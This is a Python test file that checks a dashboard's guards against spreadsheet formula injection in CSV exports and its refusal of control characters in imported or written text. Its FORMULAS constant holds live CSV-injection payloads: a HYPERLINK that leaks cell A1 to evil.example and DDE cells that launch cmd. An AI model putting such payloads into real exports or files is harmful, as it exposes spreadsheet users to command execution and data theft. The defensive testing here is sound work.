"""Hostile input (issue 18, items 2, 7 and 8's NUL): formula cells in every CSV the project
writes, control characters in stored text, and control characters refused on the way in."""

import csv
import io
import json
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import Session, select

from dashboard.accounts import rules as account_rules
from dashboard.accounts import service as accounts
from dashboard.cli import main
from dashboard.cli.data import seed_demo
from dashboard.core import db
from dashboard.core.audit_queries import AuditRow, audit_csv
from dashboard.core.plain_text import ControlCharacterRefused, control_character_message
from dashboard.core.refusal import Refused
from dashboard.core.report import Report, render_csv
from dashboard.core.table_export import frame_to_csv_bytes, frame_to_xlsx_bytes, sheet_text
from dashboard.core.vocabulary import Role
from dashboard.exchange import (
    ImportRejected,
    export_programme,
    import_programme,
)
from dashboard.exchange.backup import backup, is_sqlite
from models import Meeting, Provider, User
from tests import factories as make
from tests.services.exchange_data import dump, write_files
from tests.write_functions import ACTORS, FREE_TEXT_WRITES, FreeTextWrite, Persona

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
# Word's soft line break and an escape: what a paste from another program brings.
STORED = "soft\vbreak, \x1bescape"
NUL = "nul\x00here"


# --- formula cells in every CSV writer's output ------------------------------------------------


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _csv_file(*rows: list[str]) -> str:
    """Rows as CSV text written by the csv module itself, unguarded (an empty row is left out)."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(row for row in rows if row)
    return buffer.getvalue()


def _report_csv(formula: str) -> str:
    return render_csv(Report(("ref", "note"), [("R1", formula), ("R2", "-5")]))


def _table_csv(formula: str) -> str:
    frame = pd.DataFrame({"ref": ["R1", "R2"], "note": [formula, "-5"]})
    return frame_to_csv_bytes(frame).decode("utf-8-sig")


def _audit_csv(formula: str) -> str:
    row = AuditRow("R1", "2026-11-02 10:00:00", "providers", "P1", "update", formula)
    return audit_csv([row]).decode("utf-8")


CSV_WRITERS: dict[str, Callable[[str], str]] = {
    "CLI report": _report_csv,
    "page table download": _table_csv,
    "audit log download": _audit_csv,
}


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("writer", list(CSV_WRITERS))
def test_every_csv_writer_guards_a_formula_cell(writer: str, formula: str) -> None:
    cells = [cell for row in _cells(CSV_WRITERS[writer](formula)) for cell in row]

    assert "'" + formula in cells
    assert formula not in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_a_negative_number_and_an_iso_date_are_kept_as_they_are() -> None:
    report = Report(("due_on", "n"), [(date(2026, 11, 2), "-5")])
    assert render_csv(report) == "due_on,n\n2026-11-02,-5\n"


@pytest.fixture
def cli_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    """A migrated SQLite database the command line uses through DATABASE_URL."""
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    engine = db.get_engine(url)
    db.upgrade(engine)
    yield engine
    engine.dispose()


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_cli_csv_report_guards_free_text(
    cli_database: Engine, capsys: pytest.CaptureFixture[str], formula: str
) -> None:
    with db.session_scope(cli_database) as session:
        meeting = make.meeting(session, "MTG-1", date(2026, 9, 9))
        make.action(session, "A-1", meeting, date(2026, 12, 17)).owner_name = formula

    status = main(["report", "actions", "--as-of", "2026-12-18", "--format", "csv"])

    header, row = _cells(capsys.readouterr().out)
    assert status == 0
    assert row[header.index("owner_name")] == "'" + formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_exchange_csv_export_guards_formulas_and_reimports_the_same_text(
    session: Session, tmp_path: Path, formula: str
) -> None:
    quoted = "'" + formula  # a text that really starts with a quote stays exactly that too
    providers = _csv_file(["code", "name", "lead_contact_name"], ["PRV-F", formula, ""])
    providers += _csv_file([], ["PRV-Q", "Quoted", "-5"])
    import_programme(session, write_files(tmp_path / "in", {"providers": providers}), actor="pm")
    session.exec(select(Provider).where(Provider.code == "PRV-Q")).one().name = quoted
    session.commit()
    before = dump(session)

    export_programme(session, tmp_path / "out")

    rows = _cells((tmp_path / "out" / "providers.csv").read_text(encoding="utf-8"))
    assert rows[1][:3] == ["PRV-F", "'" + formula, ""]
    assert rows[2][:3] == ["PRV-Q", "'" + quoted, "-5"]
    summary = import_programme(session, tmp_path / "out", actor="pm")
    assert (summary.total.created, summary.total.updated) == (0, 0)
    assert dump(session) == before


# --- control characters in stored text: exports and backups never fail --------------------------


def _store_hostile_text(session: Session, engine: Engine) -> str:
    """A provider and a meeting holding control characters, written past every check (as
    before the importer refused them); NUL only on SQLite, as PostgreSQL cannot store it."""
    text = STORED + (NUL if is_sqlite(engine) else "")
    provider = make.provider(session, "P1")
    provider.name = text
    meeting = make.meeting(session, "MTG-1", date(2026, 9, 9))
    meeting.notes = text
    session.commit()
    return text


def test_stored_control_characters_reach_the_database_as_given(
    session: Session, engine: Engine
) -> None:
    text = _store_hostile_text(session, engine)
    session.expire_all()
    assert session.exec(select(Provider.name)).one() == text


def test_the_exchange_workbook_holds_stored_control_characters_as_line_breaks(
    session: Session, engine: Engine, tmp_path: Path
) -> None:
    _store_hostile_text(session, engine)

    [path] = export_programme(session, tmp_path / "programme.xlsx")

    workbook = load_workbook(path)
    name = workbook["providers"]["B2"].value
    assert name.startswith("soft\nbreak, escape")
    assert control_character_message(name) is None
    assert workbook["meetings"].cell(row=2, column=5).value == name
    assert workbook.properties.keywords == "OFFICIAL-SENSITIVE"


def test_the_csv_export_keeps_stored_control_characters(
    session: Session, engine: Engine, tmp_path: Path
) -> None:
    text = _store_hostile_text(session, engine)

    export_programme(session, tmp_path / "out")

    with (tmp_path / "out" / "providers.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle))[1][1] == text


def test_a_page_table_with_control_characters_downloads_as_a_workbook() -> None:
    frame = pd.DataFrame({"name": [STORED + NUL], "n": [3]})

    sheet = load_workbook(io.BytesIO(frame_to_xlsx_bytes(frame, "Providers"))).active

    assert sheet["A2"].value == "soft\nbreak, escapenulhere"
    assert sheet["B2"].value == 3


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("line\vbreak", "line\nbreak"),
        ("page\fbreak", "page\nbreak"),
        ("a\x00b\x01c\x1bd\x1fe", "abcde"),
        ("tab\tand\nnew line", "tab\tand\nnew line"),
        ("\x85 and \x9f pass", "\x85 and \x9f pass"),  # XLSX holds C1 characters
    ],
)
def test_sheet_text_keeps_what_xlsx_can_hold(stored: str, written: str) -> None:
    assert sheet_text(stored) == written


def test_a_backup_of_stored_control_characters_completes_and_keeps_them(
    session: Session, engine: Engine, tmp_path: Path
) -> None:
    text = _store_hostile_text(session, engine)

    result = backup(engine, tmp_path / "backup", logical=True)

    assert result.rows["provider"] == 1
    tables = json.loads((tmp_path / "backup" / "tables.json").read_text(encoding="utf-8"))
    provider = tables["provider"]
    assert provider["rows"][0][provider["columns"].index("name")] == text
    workbook = load_workbook(tmp_path / "backup" / "programme.xlsx")
    assert workbook["providers"]["B2"].value.startswith("soft\nbreak")


# --- control characters refused on the way in ----------------------------------------------------


@pytest.mark.parametrize(
    ("character", "code"),
    [
        ("\x00", "U+0000"),
        ("\v", "U+000B"),
        ("\f", "U+000C"),
        ("\x1b", "U+001B"),
        ("\x7f", "U+007F"),
    ],
)
def test_an_import_refuses_a_control_character_naming_file_row_and_column(
    session: Session, tmp_path: Path, character: str, code: str
) -> None:
    providers = f"code,name\nPRV-A,Amber\nPRV-B,Birch{character}Care\n"
    source = write_files(tmp_path / "in", {"providers": providers})
    before = dump(session)

    with pytest.raises(ImportRejected) as refused:
        import_programme(session, source, actor="pm")

    [problem] = refused.value.problems
    assert str(problem) == (
        f"providers.csv, row 3, name: contains a control character {code}; remove it"
    )
    session.rollback()
    assert dump(session) == before


def test_tab_newline_and_a_carriage_return_in_a_quoted_cell_are_imported(
    session: Session, tmp_path: Path
) -> None:
    providers = 'code,name\r\nPRV-A,"Amber\r\nHouse\tNorth\nwing"\r\n'
    import_programme(session, write_files(tmp_path / "in", {"providers": providers}), actor="pm")

    assert session.exec(select(Provider.name)).one() == "Amber\r\nHouse\tNorth\nwing"


def test_a_nul_is_a_message_on_every_database_not_a_traceback(session: Session) -> None:
    """PostgreSQL cannot store NUL: before, the import failed in the driver with a traceback."""
    admin = account_rules.system_actor("setup")

    with pytest.raises(ControlCharacterRefused) as refused:
        accounts.add_user(
            session,
            actor=admin,
            username="nul",
            role=Role.INSPECTOR,
            password="a-long-enough-passphrase-77",
            display_name="Nul\x00Name",
        )

    assert str(refused.value) == "display name: contains a control character U+0000; remove it"
    session.rollback()
    assert session.exec(select(User)).all() == []
    assert session.exec(select(Meeting)).all() == []


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """The demo programme, which every free-text write expects."""
    engine = db.make_engine(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'demo.db'}")
    db.upgrade(engine)
    with db.session_scope(engine) as session:
        seed_demo(session, actor="test")
    yield engine
    engine.dispose()


@pytest.mark.parametrize("character", ["\v", "\x00"], ids=["vertical-tab", "nul"])
@pytest.mark.parametrize("row", FREE_TEXT_WRITES, ids=[row.what for row in FREE_TEXT_WRITES])
def test_each_free_text_write_refuses_a_control_character(
    demo: Engine, row: FreeTextWrite, character: str
) -> None:
    with Session(demo) as session:
        before = dump(session)

        with pytest.raises(Refused) as refused:
            row.write(session, ACTORS[Persona.ADMIN], f"Line one{character}line two")

        assert f"control character U+{ord(character):04X}; remove it" in str(refused.value)
        assert dump(session) == before  # nothing written, not even flushed
        session.rollback()


def test_the_shared_check_allows_tab_newline_and_carriage_return() -> None:
    assert control_character_message("a\tb\nc\r\nd é ✓") is None
    assert control_character_message("\u200bzero width") is None  # not a control character
    assert control_character_message("bell\x07") == (
        "contains a control character U+0007; remove it"
    )
